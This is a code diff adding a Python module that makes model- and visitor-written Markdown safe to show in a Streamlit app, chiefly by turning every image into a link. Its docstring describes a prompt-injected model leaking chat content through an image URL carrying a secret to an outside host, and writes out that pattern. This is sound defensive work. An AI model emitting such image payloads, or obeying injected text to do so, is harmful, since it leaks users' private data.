@@ -1,0 +1,95 @@
+"""Markdown written by models and visitors, made safe to show.
+
+An image in Markdown is fetched by the visitor's browser the moment it is drawn, so a prompt-injected
+model could send chat content anywhere with `![x](https://host/?d=<secret>)`. Every image becomes a
+link instead (a click opens it); everything else, code included, is left as it was. Short labels
+(titles, model names, error details) are shown as plain text: nothing in them is Markdown.
+"""
+from __future__ import annotations
+
+import re
+from collections.abc import Callable, Iterator
+
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+# What Streamlit's own renderer reads: CommonMark plus GitHub's tables and strikethrough.
+_PARSER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+IMAGE_MARK = ":material/image: "  # an icon (no emoji font needed), then the link
+_IMAGE_START = re.compile(r"(?<!\\)!\[")
+_CODE_SPAN = re.compile(r"(`+)[\s\S]*?(?<!`)\1(?!`)")
+_INLINE_MARKUP = re.compile(r"([\\`*_\[\]()!|~<>$#&])")  # what starts or ends inline Markdown
+_BLOCK_START = re.compile(r"^(\d*)([-+=.)])")  # a list item ("- ", "1. ") or a heading underline at the start
+
+
+def _tokens(tokens: list[Token]) -> Iterator[Token]:
+    for token in tokens:
+        yield token
+        if token.children:
+            yield from _tokens(token.children)
+
+
+def has_images(text: str) -> bool:
+    return "![" in text and any(token.type == "image" for token in _tokens(_PARSER.parse(text)))
+
+
+def _code_lines(text: str) -> set[int]:
+    """The lines inside fenced or indented code blocks."""
+    lines: set[int] = set()
+    for token in _PARSER.parse(text):
+        if token.type in ("fence", "code_block") and token.map:
+            lines.update(range(*token.map))
+    return lines
+
+
+def _outside_code(text: str, change: Callable[[str], str]) -> str:
+    """`change` applied to the text outside code blocks and code spans."""
+    code = _code_lines(text)
+    lines = text.splitlines(keepends=True)
+    out, prose = [], []
+
+    def flush() -> None:
+        chunk = "".join(prose)
+        parts, last = [], 0
+        for span in _CODE_SPAN.finditer(chunk):
+            parts += [change(chunk[last:span.start()]), span.group()]
+            last = span.end()
+        out.append("".join(parts) + change(chunk[last:]))
+        prose.clear()
+
+    for index, line in enumerate(lines):
+        if index in code:
+            flush()
+            out.append(line)
+        else:
+            prose.append(line)
+    flush()
+    return "".join(out)
+
+
+def defuse_images(text: str) -> str:
+    """The Markdown with every image turned into a link to it; text without images is returned as is."""
+    if not has_images(text):
+        return text
+    linked = _outside_code(text, lambda prose: _IMAGE_START.sub(IMAGE_MARK + "[", prose))
+    if has_images(linked):  # a construct the code scan misread: change code too rather than load an image
+        linked = text.replace("![", IMAGE_MARK + "[")
+    return linked if not has_images(linked) else plain_text(text)
+
+
+def clip_long_strings(value: object, limit: int = 2_000) -> object:
+    """A copy of a JSON value for display, each string longer than `limit` cut with how much is left."""
+    if isinstance(value, str) and len(value) > limit:
+        return f"{value[:limit]}… ({len(value) - limit:,} more characters)"
+    if isinstance(value, dict):
+        return {key: clip_long_strings(item, limit) for key, item in value.items()}
+    if isinstance(value, list):
+        return [clip_long_strings(item, limit) for item in value]
+    return value
+
+
+def plain_text(text: str) -> str:
+    """Text that Streamlit shows exactly as written, on one line: every Markdown character escaped, and
+    Streamlit's own `:color[...]` / `:material/icon:` directives broken with a zero-width space."""
+    flat = _INLINE_MARKUP.sub(r"\\\1", " ".join(text.split()))
+    return _BLOCK_START.sub(r"\1\\\2", flat).replace(":", ":\u200b")
